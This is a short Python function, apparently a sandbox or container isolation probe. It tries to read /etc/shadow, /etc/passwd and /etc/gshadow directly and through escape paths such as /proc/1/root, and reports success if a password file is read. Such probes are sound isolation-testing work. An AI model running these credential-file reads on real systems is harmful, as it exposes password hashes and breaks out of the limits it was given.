# Attacks host files under /etc: /etc/shadow, /etc/passwd (world-readable on the host), also by way
# of /proc/1/root and /proc/self/root. solve() returns 1 if it read a password file.
def solve():
    for path in ("/etc/shadow", "/etc/passwd", "/etc/gshadow", "/proc/1/root/etc/shadow", "/proc/1/root/etc/passwd",
                 "/proc/self/root/etc/passwd", "/proc/1/cwd/etc/passwd", "/usr/../etc/passwd"):
        try:
            with open(path, "rb") as f:
                if b"root:" in f.read():
                    return 1
        except OSError:
            pass
    return 0
